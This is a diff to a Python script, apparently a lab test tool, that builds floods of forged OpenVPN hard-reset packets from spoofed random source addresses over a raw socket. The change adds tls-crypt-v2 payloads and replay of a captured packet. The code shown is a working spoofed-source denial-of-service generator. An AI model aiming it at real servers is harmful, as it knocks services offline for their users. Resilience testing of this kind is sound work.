@@ -1,7 +1,7 @@
 """A flood of forged hard resets: as many a second as asked for, each from another invented address.
 
 A program of its own, in a namespace on the WAN. It knows no key: what stands behind a reset's session id is
-invented too, in the length that the wrap has.
+invented too, in the length that the wrap has. With `--packet` it sends a captured packet again and again.
 """
 
 from __future__ import annotations
@@ -13,15 +13,21 @@ import socket
 import struct
 import time
 
-LENGTHS = {"none": 14, "tls-auth": 42, "tls-crypt": 54}
-"""Bytes of a hard reset (tls-auth with SHA1)."""
+LENGTHS = {"none": 14, "tls-auth": 42, "tls-crypt": 54, "tls-crypt-v2": 54 + 1024}
+"""Bytes of a hard reset (tls-auth with SHA1, tls-crypt-v2 with the largest key)."""
 TURN_SECONDS = 0.001
 
 
-def forged(target: str, port: int, wrap: str, draw: random.Random) -> bytes:
-    """An IPv4 packet with a hard reset, its source invented; no UDP checksum."""
+def forged(wrap: str, draw: random.Random) -> bytes:
+    """The payload of a forged hard reset."""
+    if wrap == "tls-crypt-v2":
+        return bytes([10 << 3]) + draw.randbytes(LENGTHS[wrap] - 3) + (1024).to_bytes(2, "big")
     payload = bytes([7 << 3]) + draw.randbytes(8)
-    payload += bytes(5) if wrap == "none" else draw.randbytes(LENGTHS[wrap] - 9)
+    return payload + (bytes(5) if wrap == "none" else draw.randbytes(LENGTHS[wrap] - 9))
+
+
+def from_anywhere(target: str, port: int, payload: bytes, draw: random.Random) -> bytes:
+    """An IPv4 packet, its source invented; no UDP checksum."""
     source = bytes((draw.randrange(1, 223), *draw.randbytes(3)))
     length = 28 + len(payload)
     ip = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, 17, 0) + source + socket.inet_aton(target)
@@ -33,13 +39,16 @@ def main() -> None:
     parser.add_argument("target")
     parser.add_argument("port", type=int)
     parser.add_argument("--wrap", choices=sorted(LENGTHS), default="none")
+    parser.add_argument("--packet", type=bytes.fromhex, help="a captured one, in hex")
     parser.add_argument("--rate", type=int, default=20_000, help="packets a second")
     parser.add_argument("--seconds", type=float, default=10.0)
     arguments = parser.parse_args()
     draw = random.Random()
     # Made beforehand: the machine is the server's and the tunnel's, not ours.
     count = int(arguments.rate * arguments.seconds)
-    packets = [forged(arguments.target, arguments.port, arguments.wrap, draw) for _ in range(count)]
+    where = (arguments.target, arguments.port)
+    payloads = (arguments.packet or forged(arguments.wrap, draw) for _ in range(count))
+    packets = [from_anywhere(*where, payload, draw) for payload in payloads]
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
     to = (arguments.target, 0)
